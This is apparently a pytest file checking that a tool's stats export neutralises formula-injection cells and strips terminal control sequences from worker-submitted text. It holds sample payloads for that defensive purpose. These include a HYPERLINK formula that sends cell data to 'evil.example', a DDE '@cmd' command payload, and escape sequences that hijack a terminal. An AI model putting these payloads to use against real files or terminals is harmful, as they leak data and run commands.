"""`tanyakerja stats` must not let workers' text attack the admin's spreadsheet or terminal."""

from __future__ import annotations

import csv
import os
import subprocess
import sys
from collections.abc import Callable
from pathlib import Path

import pytest

from knowledge.embedders import E5Embedder
from knowledge.questionlog import open_question_log
from knowledge.settings import Settings
from knowledge.stats import csv_safe, report_from_entries
from knowledge.types import Answer
from tests.test_stats import NOW, entry

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"klik")'


@pytest.mark.parametrize(
    "cell", [FORMULA, "+1+1", "-2+3", "@SUM(A1:A2)", "\t=1+1", "\r=1+1"]
)
def test_formula_cells_are_neutralised(cell: str) -> None:
    assert csv_safe(cell) == "'" + cell


@pytest.mark.parametrize("cell", ["berapa gaji ojol?", "2025-03-10", "12", "", "a=b"])
def test_ordinary_cells_are_unchanged(cell: str) -> None:
    assert csv_safe(cell) == cell


def test_csv_export_holds_no_formula(embedder: E5Embedder, tmp_path: Path) -> None:
    entries = [entry(FORMULA), entry(FORMULA), entry("@cmd|' /C calc'!A0", found=True, feedback=-1)]
    report = report_from_entries(entries, embedder, now=NOW)
    target = tmp_path / "laporan.csv"
    report.write_csv(target)
    with target.open(encoding="utf-8-sig", newline="") as handle:
        cells = [cell for row in csv.reader(handle) for cell in row]
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
    assert "'" + FORMULA in cells  # still readable, as text


ESCAPES = "\x1b]0;pwned\x07\x1b[2J\x1b[31mmerah\x9b1m"


def test_control_characters_never_reach_the_terminal(
    make_settings: Callable[..., Settings],
) -> None:
    settings = make_settings()
    log = open_question_log(settings)
    log.record(user_id=1, chat_type="private", answer=Answer(
        question=f"berapa gaji{ESCAPES} ojol?", text=f"tidak tahu{ESCAPES}", found=False,
        mode="extractive",
    ))
    log.close()
    env = {
        **os.environ,
        "CORPUS_DIR": str(settings.corpus_dir),
        "DATA_DIR": str(settings.data_dir),
        "CHROMA_PATH": str(settings.chroma_path),
        "USER_KEY_SECRET": "test-secret",
    }
    done = subprocess.run(
        [sys.executable, "-m", "tanyakerja", "stats"],
        capture_output=True, text=True, env=env, timeout=180, check=False,
    )
    assert done.returncode == 0, done.stderr
    assert "berapa gaji" in done.stdout
    assert "\x1b" not in done.stdout
    assert "\x07" not in done.stdout
    assert "\x9b" not in done.stdout
    assert "merah" in done.stdout  # the text itself stays


def test_rows_logged_before_stripping_are_cleaned_on_output(
    embedder: E5Embedder,
) -> None:
    report = report_from_entries([entry(f"gaji{ESCAPES}?")], embedder, now=NOW)
    text = report.to_text()
    assert "\x1b" not in text
    assert "\x07" not in text
